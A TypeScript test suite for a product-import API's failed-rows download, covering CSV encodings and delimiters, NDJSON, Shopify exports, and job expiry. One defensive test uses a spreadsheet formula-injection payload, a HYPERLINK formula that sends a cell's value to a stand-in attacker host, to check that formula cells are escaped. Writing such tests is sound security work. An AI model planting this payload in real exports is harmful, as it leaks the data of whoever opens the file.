// GET …/failed-rows through the API and the queue: a finished job's records that were not imported, as uploaded (their
// encoding, delimiter and bytes), each with its problems appended; fixed and uploaded again, they import clean.
import { env } from "cloudflare:workers";
import * as zlib from "node:zlib";
import { describe, expect, it } from "vitest";
import { readConfig } from "../../src/config.ts";
import { sweep } from "../../src/imports/jobs/sweeper.ts";
import { type CsvDelimiter, CsvParser } from "../../src/imports/read/csv.ts";
import { consumerEnv, createQueuedJob, failingBatches, importDirect, jobRecord, runRedelivering } from "../consumer-helpers.ts";
import { cell, ERROR_COLUMNS, failedRows, failedRowsText, messagesByLine } from "../failed-rows-helpers.ts";
import { createTenant, problemOf, request } from "../helpers.ts";
import { importFile, rowErrors } from "../imports-helpers.ts";
import { exportFile, SHOPIFY_CLASSIC_HEADER, SHOPIFY_ROWS } from "../preset-exports.ts";
import { utf16Bytes, windows1252Bytes } from "../unit/imports/parser-helpers.ts";

describe("the failed rows of a CSV file", () => {
  it("are the header and the rejected records in Windows-1252 with ';', their problems appended; fixed, they import clean", async () => {
    const t = await createTenant();
    const text = "sku;name;price;stock\r\nW-1;Café;1,00;3\r\nW-2;Crème brûlée;2.50;1\r\nW-3;Thé;abc;2\r\nW-4;Œuf;4.00;-1\r\n";
    const job = await importFile(t.key, windows1252Bytes(text));
    expect(job).toMatchObject({ status: "completed", encoding: "windows-1252", created: 1, rejected_rows: 3, failed_rows: 3 });
    const messages = await messagesByLine(t.key, job.id);

    const { res, bytes } = await failedRows(t.key, job.id);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=windows-1252");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${job.id}-failed-rows.csv"`);
    const expected =
      `sku;name;price;stock;${ERROR_COLUMNS.replaceAll(",", ";")}\r\n` +
      `W-1;Café;1,00;3;2;price;decimal_comma;${cell(messages.get(2)!, ";")}\r\n` +
      `W-3;Thé;abc;2;4;price;invalid_price;${cell(messages.get(4)!, ";")}\r\n` +
      `W-4;Œuf;4.00;-1;5;stock;negative;${cell(messages.get(5)!, ";")}\r\n`;
    expect(new TextDecoder("windows-1252").decode(bytes)).toBe(expected);
    expect(bytes).toEqual(windows1252Bytes(expected));

    const fixed = new TextDecoder("windows-1252").decode(bytes).replace("1,00", "1.00").replace("abc", "3.00").replace(";-1;", ";1;");
    const again = await importFile(t.key, windows1252Bytes(fixed));
    expect(again).toMatchObject({
      status: "completed",
      encoding: "windows-1252",
      processed_rows: 3,
      created: 3,
      rejected_rows: 0,
      skipped_rows: 0,
      error_count: 0,
      warning_count: 0,
      failed_rows: 0,
      ignored_columns: [],
    });
  });

  it("keep a UTF-16 file's byte order mark, encoding and line breaks", async () => {
    const t = await createTenant();
    const text = "sku,name,price\nU-1,日本,1\nU-2,テスト,x\n";
    const job = await importFile(t.key, utf16Bytes(text, "le", true));
    expect(job).toMatchObject({ status: "completed", encoding: "utf-16le", created: 1, rejected_rows: 1, failed_rows: 1 });
    const message = (await messagesByLine(t.key, job.id)).get(3)!;
    const { res, bytes } = await failedRows(t.key, job.id);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-16le");
    expect(bytes).toEqual(utf16Bytes(`sku,name,price,${ERROR_COLUMNS}\nU-2,テスト,x,3,price,invalid_price,${cell(message)}\n`, "le", true));

    // Uploaded again, still failing: its problem cells give way to the new ones.
    const failing = await importFile(t.key, utf16Bytes(`sku,name,price,${ERROR_COLUMNS}\nU-2,"テ,スト",y,3,price,invalid_price,x\n`, "le", true));
    expect(failing).toMatchObject({ status: "completed", rejected_rows: 1, ignored_columns: [] });
    const [error] = await rowErrors(t.key, failing.id);
    expect((await failedRows(t.key, failing.id)).bytes).toEqual(utf16Bytes(`sku,name,price,${ERROR_COLUMNS}\nU-2,"テ,スト",y,2,price,invalid_price,${cell(error!.message)}\n`, "le", true));

    const again = await importFile(t.key, utf16Bytes(`sku,name,price,${ERROR_COLUMNS}\nU-2,テスト,2,3,price,invalid_price,x\n`, "le", true));
    expect(again).toMatchObject({ status: "completed", created: 1, error_count: 0, ignored_columns: [] });
  });

  it("end a last record that had no line break with the header's, and quote a problem cell that holds the delimiter", async () => {
    const t = await createTenant();
    const job = await importFile(t.key, "sku,name,price,currency\nF-1,Fork,1.00,=1+2");
    expect(job).toMatchObject({ rejected_rows: 1, failed_rows: 1 });
    const [error] = await rowErrors(t.key, job.id);
    expect(error!.message).toContain(",");
    expect(await failedRowsText(t.key, job.id)).toBe(`sku,name,price,currency,${ERROR_COLUMNS}\nF-1,Fork,1.00,=1+2,2,currency,invalid_currency,${cell(error!.message)}\n`);
  });

  it("are complete past MAX_STORED_ERRORS", async () => {
    const t = await createTenant();
    const rows = Array.from({ length: 1500 }, (_, i) => `M-${i},Name,${i % 2 === 0 ? "bad" : "1.00"}\n`).join("");
    const job = await importFile(t.key, `sku,name,price\n${rows}`);
    expect(job).toMatchObject({ rejected_rows: 750, failed_rows: 750 });
    const lines = (await failedRowsText(t.key, job.id)).trimEnd().split("\n");
    expect(lines).toHaveLength(751);
    expect(lines[750]).toMatch(/^M-1498,Name,bad,1500,price,invalid_price,/);
  });

  it("of a gzip upload are read from its inflated copy, which the job keeps for them", async () => {
    const t = await createTenant();
    const plain = "sku,name,price\nG-1,Gear,1.00\nG-2,Gem,oops\n";
    const job = await importFile(t.key, new Uint8Array(zlib.gzipSync(plain)), { headers: { "content-encoding": "gzip" } });
    expect(job).toMatchObject({ status: "completed", content_encoding: "gzip", failed_rows: 1 });
    expect(await failedRowsText(t.key, job.id)).toMatch(new RegExp(`^sku,name,price,${ERROR_COLUMNS}\nG-2,Gem,oops,3,price,invalid_price,`));
  });
});

/** A CSV text's records as the import's parser reads them. */
function csvRecords(text: string, delimiter: CsvDelimiter): string[][] {
  const parser = new CsvParser({ delimiter });
  const records = parser.push(new TextEncoder().encode(text));
  for (let more = parser.finish(); more.length > 0; more = parser.finish()) records.push(...more);
  return records.map((record) => record.fields);
}

/** The same problems of the same values, line by line. */
async function sameProblems(key: string, jobId: string, expectedJobId: string): Promise<void> {
  const problems = async (id: string) => (await rowErrors(key, id)).map(({ line, column, code, value }) => ({ line, column, code, value }));
  expect(await problems(jobId)).toEqual(await problems(expectedJobId));
}

describe("the problem cells of the failed rows", () => {
  it("are formula-escaped as the CSV error report's, while the merchant's own cells come byte for byte and import again as they were", async () => {
    const t = await createTenant();
    const formula = '=HYPERLINK("http://evil.example/?"&A1;"open")';
    const quoted = cell(formula, ";");
    const text = `sku;name;price;currency\nF-1;${quoted};1.00;${quoted}\nF-2;+1;1.00;+1\nF-3;@x;1.00;@x\nF-4;-2;1.00;-2\n`;
    const job = await importFile(t.key, text);
    expect(job).toMatchObject({ status: "completed", rejected_rows: 4, failed_rows: 4 });

    const reportRes = await request(`/api/v1/products/import/${job.id}/errors`, { key: t.key, headers: { accept: "text/csv" } });
    expect(reportRes.status).toBe(200);
    const report = csvRecords(await reportRes.text(), ",").slice(1);
    const body = await failedRowsText(t.key, job.id);
    const records = csvRecords(body, ";");
    expect(records[0]).toEqual(["sku", "name", "price", "currency", ...ERROR_COLUMNS.split(",")]);
    const source = text.split("\n");
    const lines = body.split("\n");
    for (let i = 1; i <= 4; i++) {
      const line = i + 1;
      // The record as uploaded, then its problems: the cells the error report has for its line, formula-escaped alike.
      expect(lines[i]!.startsWith(`${source[i]};`)).toBe(true);
      const reported = report.filter((row) => row[0] === String(line));
      expect(reported.length).toBeGreaterThan(0);
      expect(records[i]!.slice(4)).toEqual([
        String(line),
        reported.map((row) => row[1]).join("; "),
        reported.map((row) => row[2]).join("; "),
        reported.map((row) => row[3]).join(" "),
      ]);
      for (const problemCell of records[i]!.slice(4)) expect(problemCell).not.toMatch(/^[=+\-@\t\r\0]/);
    }
    // The formula is echoed in the message, inside the one cell; the report's value cell, which starts with it, is
    // escaped; the merchant's cells keep it as written.
    const f1 = report.find((row) => row[0] === "2" && row[1] === "currency")!;
    expect(f1[3]).toContain("=HYPERLINK(");
    expect(f1[4]).toMatch(/^'=HYPERLINK\(/);
    expect(records[1]!.slice(0, 4)).toEqual(["F-1", formula, "1.00", formula]);
    expect(records.slice(2).map((r) => r.slice(0, 4))).toEqual([
      ["F-2", "+1", "1.00", "+1"],
      ["F-3", "@x", "1.00", "@x"],
      ["F-4", "-2", "1.00", "-2"],
    ]);

    // Uploaded again as it is, the records read the same cells: the same problems, of the same values.
    const again = await importFile(t.key, body);
    expect(again).toMatchObject({ status: "completed", rejected_rows: 4, ignored_columns: [] });
    await sameProblems(t.key, again.id, job.id);
  });

  it("are in the file's encoding: a character Windows-1252 lacks is a '?', while the record's bytes stay as uploaded", async () => {
    const t = await createTenant();
    // JSON escapes bring characters Windows-1252 lacks into a cell: a CJK option name and an emoji one.
    const text = 'sku;name;options\r\nE-1;Thé;"{""\\u65e5\\u672c"":""""}"\r\nE-2;Café;"{""\\ud83d\\ude00"":""""}"\r\n';
    const job = await importFile(t.key, windows1252Bytes(text));
    expect(job).toMatchObject({ status: "completed", encoding: "windows-1252", rejected_rows: 2, failed_rows: 2 });
    const messages = await messagesByLine(t.key, job.id);
    expect(messages.get(2)).toContain('"日本"');
    expect(messages.get(3)).toContain('"😀"');

    const { res, bytes } = await failedRows(t.key, job.id);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=windows-1252");
    const [header, e1, e2] = text.split("\r\n");
    const expected =
      `${header};${ERROR_COLUMNS.replaceAll(",", ";")}\r\n` +
      `${e1};2;options;invalid_options;${cell(messages.get(2)!.replace("日本", "??"), ";")}\r\n` +
      `${e2};3;options;invalid_options;${cell(messages.get(3)!.replace("😀", "?"), ";")}\r\n`;
    expect(bytes).toEqual(windows1252Bytes(expected));

    const again = await importFile(t.key, bytes);
    expect(again).toMatchObject({ status: "completed", encoding: "windows-1252", rejected_rows: 2, ignored_columns: [] });
    await sameProblems(t.key, again.id, job.id);
  });
});

describe("the failed rows of an NDJSON file", () => {
  it("carry their problems under _errors in each object; a line that is no object comes as it is; fixed, they import clean", async () => {
    const t = await createTenant();
    const lines = ['{"sku":"N-1","name":"Mug","price":"7.00"}', '{"sku":"N-2","name":"Cup","price":"bad"} ', "not json", "{}", '{"sku":"N-5","price":"-1"}'];
    const job = await importFile(t.key, `${lines.join("\n")}\n`, { type: "application/x-ndjson" });
    expect(job).toMatchObject({ status: "completed", created: 1, rejected_rows: 4, failed_rows: 4 });
    const errors = await rowErrors(t.key, job.id);
    const errorsOf = (line: number) => JSON.stringify(errors.filter((e) => e.line === line).map(({ line: l, column, code, message }) => ({ line: l, column, code, message })));
    const { res, bytes } = await failedRows(t.key, job.id);
    expect(res.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    expect(new TextDecoder().decode(bytes)).toBe(
      `{"sku":"N-2","name":"Cup","price":"bad","_errors":${errorsOf(2)}} \n` +
        "not json\n" +
        `{"_errors":${errorsOf(4)}}\n` +
        `{"sku":"N-5","price":"-1","_errors":${errorsOf(5)}}\n`,
    );

    const fixed = new TextDecoder()
      .decode(bytes)
      .split("\n")
      .filter((line) => line !== "")
      .map((line) => {
        if (line === "not json") return '{"sku":"N-3","name":"Jar","price":"3.00"}';
        const value = JSON.parse(line) as Record<string, unknown>;
        if (value.sku === undefined) return JSON.stringify({ ...value, sku: "N-4", name: "Pan", price: "4.00" });
        return JSON.stringify({ ...value, price: "5.00", name: value.name ?? "Lid" });
      });
    const again = await importFile(t.key, `${fixed.join("\n")}\n`, { type: "application/x-ndjson" });
    expect(again).toMatchObject({ status: "completed", created: 4, rejected_rows: 0, error_count: 0, failed_rows: 0, ignored_columns: [] });
  });
});

describe("the failed rows of a Shopify export", () => {
  it("bring a failed variant's product row along as context, once; fixed, the export's failed variants import with their product's cells", async () => {
    const t = await createTenant();
    const rows = SHOPIFY_ROWS.map((row) => (row["Variant SKU"] === "TS-GREEN-L" ? { ...row, "Variant Price": "19,99" } : row));
    rows.splice(3, 0, { ...(SHOPIFY_ROWS[2] as Record<string, string>), "Variant SKU": "TS-BLUE-L", "Option2 Value": "L", "Variant Price": "$21" });
    const file = exportFile(SHOPIFY_CLASSIC_HEADER, rows);
    const job = await importFile(t.key, file);
    // Line 3 (price 19,99) and line 5 (price $21) are t-shirt variants; line 8 is the trousers' variant without a SKU.
    expect(job).toMatchObject({ status: "completed", created: 4, rejected_rows: 2, skipped_rows: 2, warning_count: 1, failed_rows: 3 });
    const messages = await messagesByLine(t.key, job.id);
    const lines = file.split("\n");
    const body = await failedRowsText(t.key, job.id);
    const context = "The first row of this product: its product cells (title, description, vendor, status, …) go with the failed variants below. It is imported again with them.";
    expect(body).toBe(
      [
        `${lines[0]},${ERROR_COLUMNS}`,
        `${lines[1]},2,,context,${cell(context)}`,
        `${lines[2]},3,price,decimal_comma,${cell(messages.get(3)!)}`,
        `${lines[4]},5,price,currency_symbol,${cell(messages.get(5)!)}`,
        `${lines[7]},8,sku,variant_without_sku,${cell(messages.get(8)!)}`,
        "",
      ].join("\n"),
    );

    const fixed = body.replace('"19,99"', "19.99").replace("$21", "21.00").replace("Waist,30,,,,,,", "Waist,30,,,,,PANTS-30,");
    const again = await importFile(t.key, fixed);
    expect(again).toMatchObject({
      status: "completed",
      processed_rows: 4,
      created: 3,
      unchanged: 1,
      rejected_rows: 0,
      skipped_rows: 0,
      error_count: 0,
      warning_count: 0,
      ignored_columns: SHOPIFY_CLASSIC_HEADER.filter((name) => !["Handle", "Title", "Body (HTML)", "Vendor", "Product Category", "Tags", "Published", "Option1 Name", "Option1 Value", "Option2 Name", "Option2 Value", "Option3 Name", "Option3 Value", "Variant SKU", "Variant Inventory Qty", "Variant Price", "Variant Barcode", "Image Src", "Variant Image", "Status"].includes(name)),
    });
    const products = await request("/api/v1/products?limit=200", { key: t.key });
    const { data } = (await products.json()) as { data: Record<string, unknown>[] };
    const bySku = new Map(data.map((p) => [p.sku, p]));
    expect(bySku.get("TS-GREEN-L")).toMatchObject({ name: "Example T-Shirt - Green / L", brand: "Acme", status: "active", price: "19.99", tags: ["cotton", "summer"] });
    expect(bySku.get("TS-BLUE-L")).toMatchObject({ name: "Example T-Shirt - Blue / L", brand: "Acme", price: "21.00" });
    expect(bySku.get("PANTS-30")).toMatchObject({ name: "Example Pants - 30", brand: "Acme", status: "archived", price: "49.99" });
  });
});

/** The job's failed records as stored, without its id. */
async function storedFailedRecords(jobId: string) {
  const { results } = await env.DB.prepare(
    "SELECT byte_start, byte_end, line, context_start, context_end, context_line, problems FROM import_failed_records WHERE job_id = ? ORDER BY byte_start",
  )
    .bind(jobId)
    .all();
  return results;
}

describe("the failed records a job keeps", () => {
  const rows = SHOPIFY_ROWS.map((row) => (row["Variant SKU"] === "TS-BLUE-M" ? { ...row, "Variant Price": "x" } : row));
  const file = exportFile(SHOPIFY_CLASSIC_HEADER, rows);

  it("are the same whether the file is read in one slice or a row per slice, and after lost replies redelivered", async () => {
    const whole = await importDirect((await createTenant()).tenantId, file);
    const expected = await storedFailedRecords(whole.jobId);
    // The t-shirt's third variant (its product row is line 2), and the trousers' variant without a SKU (its own product row).
    expect(expected.map((r) => [r.line, r.context_line])).toEqual([
      [4, 2],
      [7, 7],
    ]);
    const budget = { IMPORT_CHUNK_ROWS: "1", IMPORT_SLICE_ROWS: "1" };
    const sliced = await importDirect((await createTenant()).tenantId, file, { vars: budget });
    expect(await storedFailedRecords(sliced.jobId)).toEqual(expected);

    const t = await createTenant();
    const jobId = await createQueuedJob(t.tenantId, file);
    const retried = await runRedelivering(consumerEnv(budget, failingBatches(env.DB, [2, 4, 6], "after").db), consumerEnv(budget), jobId);
    expect(retried).toBeGreaterThan(0);
    expect(await storedFailedRecords(jobId)).toEqual(expected);
    expect((await jobRecord(jobId)) as unknown as Record<string, unknown>).toMatchObject({ status: "completed" });
  });
});

describe("GET …/failed-rows", () => {
  it("is a 404 for another tenant's job or none, and a 409 for a job that has not finished", async () => {
    const t = await createTenant();
    const other = await createTenant();
    const job = await importFile(t.key, "sku,name,price\nA-1,A,x\n");
    for (const [key, id] of [[other.key, job.id], [t.key, "nope"]] as const) {
      const { res } = await failedRows(key, id);
      expect(res.status).toBe(404);
      expect(res.headers.get("content-type")).toBe("application/problem+json");
    }
    const queued = await createQueuedJob(t.tenantId, "sku,name,price\nA-1,A,x\n");
    const res = await request(`/api/v1/products/import/${queued}/failed-rows`, { key: t.key });
    expect(res.status).toBe(409);
    expect(await problemOf(res)).toMatchObject({ type: "/problems/conflict", detail: expect.stringContaining("queued") });
  });

  it("is a 410 once the job's file is deleted, and the sweeper purges the failed records with the job", async () => {
    const t = await createTenant();
    const job = await importFile(t.key, "sku,name,price\nA-1,A,x\nA-2,B,y\n");
    expect(job.failed_rows).toBe(2);
    const consumer = consumerEnv();
    const config = readConfig(consumer.env);
    const finished = (await jobRecord(job.id)).finished_at!;
    await sweep(consumer.env, config, finished + config.uploadRetentionMs + 1);
    const res = await request(`/api/v1/products/import/${job.id}/failed-rows`, { key: t.key });
    expect(res.status).toBe(410);
    expect(await problemOf(res)).toMatchObject({ type: "/problems/gone", status: 410, detail: expect.stringContaining("deleted") });

    // Each run purges a bounded number of jobs' records (the test database holds other tests' jobs): the cron comes back.
    for (let run = 0; run < 50 && (await failedRows(t.key, job.id)).res.status !== 404; run++) {
      await sweep(consumer.env, config, finished + config.jobRetentionMs + 1);
    }
    expect((await failedRows(t.key, job.id)).res.status).toBe(404);
    const left = await env.DB.prepare("SELECT count(*) AS n FROM import_failed_records WHERE job_id = ?").bind(job.id).first<{ n: number }>();
    expect(left?.n).toBe(0);
  });
});
